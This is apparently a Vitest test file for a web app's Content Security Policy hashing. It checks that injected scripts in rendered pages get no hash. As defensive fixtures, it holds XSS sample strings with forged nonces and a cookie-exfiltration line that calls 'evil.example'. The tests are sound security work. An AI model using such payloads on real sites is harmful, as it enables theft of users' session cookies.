// @vitest-environment node
import { createHash } from 'node:crypto'
import { createElement } from 'react'
import { renderToString } from 'react-dom/server'
import { expect, test } from 'vitest'
import { Html } from '../app/components/Html.tsx'
import { prepareArticle } from '../app/lib/articleHtml.ts'
import { MarkContext } from '../app/lib/mark.ts'
import { readConfig } from './config.ts'
import { contentSecurityPolicy, ownMarkup } from './security.ts'

const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`
const rule = (policy: string, name: string) => policy.split('; ').find((part) => part.startsWith(`${name} `))

const mark = '7d1f'
const own = (html: string) => ownMarkup(html, mark).own
const policyOf = (html: string) => contentSecurityPolicy(own(html))

test('inline scripts of ours are allowed by hash and by nothing else', () => {
	const policy = policyOf(
		`<script nonce="${mark}">a()</script><script src="/x.js" nonce="${mark}"></script><script async="" nonce="${mark}">b()</script>`,
	)
	expect(rule(policy, 'script-src')).toBe(`script-src 'self' ${sha('a()')} ${sha('b()')}`)
	expect(policy).not.toContain('unsafe-inline')
	expect(policy).not.toContain('unsafe-eval')
})

test.each([
	'<script>evil()</script>',
	'<script nonce="guess">evil()</script>',
	'<script type="module" async="">evil()</script>',
	`<p title='nonce="${'x'.repeat(4)}"'></p><script data-x=" nonce=">evil()</script>`,
	`<!--${'0000'}--><script>evil()</script>`,
])('a script that is not ours gets no hash: %s', (evil) => {
	const policy = policyOf(`<body><script nonce="${mark}">a()</script><!--${mark}-->${evil}<!--/${mark}--></body>`)
	expect(rule(policy, 'script-src')).toBe(`script-src 'self' ${sha('a()')}`)
})

// The API removes scripts; the policy is what stops one that it has missed.
test('an article with a script in it gets no hash through the whole way of a page', () => {
	const evil = "fetch('https://evil.example/?'+document.cookie)"
	const article = prepareArticle(`<p>Текст</p><script>${evil}</script><p style="position:fixed">x</p>`).html
	const page = renderToString(createElement(MarkContext, { value: mark }, createElement(Html, { html: article })))
	const { html, own } = ownMarkup(page, mark)
	expect(html).toContain(`<script>${evil}</script><p style="position:fixed">`)
	expect(contentSecurityPolicy(own)).not.toContain('sha256')
})

test('data blocks need no hash', () => {
	expect(policyOf('<script type="application/ld+json">{}</script>')).not.toContain('sha256')
})

test('style attributes of ours are allowed by hash, read as the browser reads them', () => {
	const policy = policyOf(
		`<p style="font-family:&quot;Onest&quot;">x</p><!--${mark}--><p style="inset:0">y</p><!--/${mark}--><p>z</p>`,
	)
	expect(rule(policy, 'style-src-attr')).toBe(`style-src-attr 'unsafe-hashes' ${sha('font-family:"Onest"')}`)
	expect(rule(policyOf('<p>'), 'style-src-attr')).toBe("style-src-attr 'none'")
})

test('the finished document does not know the mark', () => {
	const html = `<link nonce="${mark}" rel="x"/><script nonce="${mark}">a()</script><!--${mark}--><p>y</p><!--/${mark}-->`
	expect(ownMarkup(html, mark).html).toBe('<link rel="x"/><script>a()</script><p>y</p>')
})

test('the environment has defaults and is checked', () => {
	expect(readConfig({})).toMatchObject({ host: '127.0.0.1', port: 3000, apiOrigin: 'http://127.0.0.1:8080' })
	expect(readConfig({ PUBLIC_ORIGIN: 'https://larek.example/' }).publicOrigin).toBe('https://larek.example')
	expect(readConfig({ API_ORIGIN: 'http://api.example:81' }).apiOrigin).toBe('http://api.example:81')
	expect(() => readConfig({ WEB_ADDR: 'nonsense' })).toThrow('host:port')
})
